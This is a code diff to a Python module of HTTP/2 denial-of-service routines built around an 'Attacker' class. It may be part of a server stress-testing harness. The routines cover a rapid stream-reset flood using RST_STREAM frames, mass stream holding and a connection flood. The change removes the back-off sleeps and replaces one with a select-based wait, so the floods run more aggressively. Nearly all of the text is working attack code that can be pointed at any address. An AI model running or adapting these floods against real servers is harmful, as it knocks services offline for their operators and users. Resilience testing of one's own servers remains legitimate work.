@@ -73,6 +73,18 @@ class Attacker:
             except OSError as e:
                 raise Cut from e
 
+    def rest(self, seconds):
+        """Writes nothing for so long."""
+        until = time.monotonic() + seconds
+        while (left := until - time.monotonic()) > 0:
+            try:
+                if select.select([self.s], [], [], left)[0] and not self.s.recv(1 << 16):
+                    raise Cut
+            except BlockingIOError:
+                continue
+            except OSError as e:
+                raise Cut from e
+
     def open(self, path, flags=END_HEADERS):
         """The bytes that open one stream more."""
         self.stream += 2
@@ -91,7 +103,7 @@ def repeat(address, until, attack, **how):
         except Cut:
             cuts += 1
         except OSError:  # no connection: it is refused, or the backlog is full
-            time.sleep(0.01)
+            continue
     return cuts
 
 
@@ -129,7 +141,7 @@ def slow_reset(address, until):
     """As fast as it can without being cut off, or nearly."""
     def attack(a):
         a.write(b"".join(a.open(WATCH) + frame(RST_STREAM, 0, a.stream, struct.pack(">I", 8)) for _ in range(9)))
-        time.sleep(0.1)
+        a.rest(0.1)
     return repeat(address, until, attack)
 
 
@@ -190,7 +202,7 @@ def crowd(address, until):
             a.write(a.open(b"/nobody/Knows"))
             kept.append(a.s)
         except (Cut, OSError):
-            time.sleep(0.01)
+            pass
         for s in kept[:-500]:
             s.close()
         kept[:-500] = []
@@ -263,7 +275,7 @@ def connections(address, until):
             connect(address).close()
             n += 1
         except OSError:
-            time.sleep(0.01)
+            continue
     return n
 
 
